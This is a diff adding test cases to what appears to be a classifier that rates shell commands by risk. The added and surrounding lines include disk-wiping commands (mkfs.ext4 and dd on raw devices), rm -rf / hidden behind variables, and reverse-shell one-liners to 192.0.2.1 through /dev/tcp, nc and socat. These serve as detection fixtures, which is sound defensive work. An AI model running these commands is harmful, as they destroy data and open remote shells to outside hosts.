@@ -170,6 +170,12 @@ python3 -c "import shutil; shutil.rmtree('build')" => deletes warning
 perl -e 'unlink "a.txt"' => deletes warning
 node -e "require('fs').rmSync('x')" => deletes warning
 trash-put a.txt => deletes notice
+gio trash --empty => deletes warning
+mkswap /swapfile => deletes warning
+mkfs.ext4 disk.img => deletes warning
+mkfs.ext4 /dev/sdX => deletes danger
+mkfs.ext4 <device> => deletes danger
+mkfs.ext4 "$DEVICE" => deletes danger
 gio trash a.txt => deletes notice
 fdupes -rdN . => deletes warning
 """
@@ -201,6 +207,8 @@ cat image.iso > /dev/sdb => overwrites danger
 cp image.iso /dev/sdb => overwrites danger
 dd if=image.iso of=/dev/sdb bs=4M => overwrites danger
 dd if=/dev/zero of=/dev/nvme0n1 => overwrites danger
+dd if=a.iso of=/dev/sdX => overwrites danger
+dd if=a.iso of=/dev/other => overwrites danger
 dd if=/dev/zero of=test.img bs=1M count=10 => overwrites notice
 mv a.txt b.txt => overwrites notice
 mv -f a.txt b.txt => overwrites notice
@@ -377,6 +385,8 @@ passwd -l bob => rights warning
 usermod -aG docker bob => rights warning
 usermod -aG audio bob => rights notice
 usermod -G audio bob => rights warning
+usermod -rG audio bob => rights notice
+chgrp --reference a b => rights notice
 usermod -s /bin/zsh bob => rights notice
 gpasswd -a bob wheel => rights warning
 adduser bob => rights notice
@@ -485,6 +495,7 @@ wget --no-check-certificate https://example.org => leaks notice
 ssh -o StrictHostKeyChecking=no bob@host => leaks notice
 git -c http.sslVerify=false clone https://example.org/x.git => leaks notice
 bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 => leaks danger
+exec 3<>/dev/tcp/192.0.2.1/4444 => leaks warning
 nc -e /bin/sh 192.0.2.1 4444 => leaks danger
 socat tcp:192.0.2.1:4444 exec:/bin/sh => leaks danger
 gpg --export-secret-keys me => leaks warning
@@ -508,6 +519,17 @@ f() { rm x; }; f => deletes warning
 { rm x; } && (rm y) => deletes warning
 ! rm x => deletes warning
 [[ -f x ]] && rm x => deletes warning
+x=rm; $x notes.txt => deletes warning
+x='rm -rf'; $x / => deletes danger
+d=/; rm -rf "$d" => deletes danger
+d=/; rm -rf ${d}etc => deletes danger
+export d=/; rm -rf $d => deletes danger
+a=/; b=$a; rm -rf $b => deletes danger
+d=/; sh -c "rm -rf $d" => deletes danger
+d=/; d=build; rm -rf $d => deletes warning
+d=/; d=$(mktemp -d); rm -rf "$d" => deletes warning
+d=/; rm -rf '$d' => deletes warning
+x=$(rm notes.txt) y=$(rm -rf /) => deletes danger, deletes warning
 nohup rm x & => deletes warning
 time rm x => deletes warning
 timeout -k 5 10s rm x => deletes warning
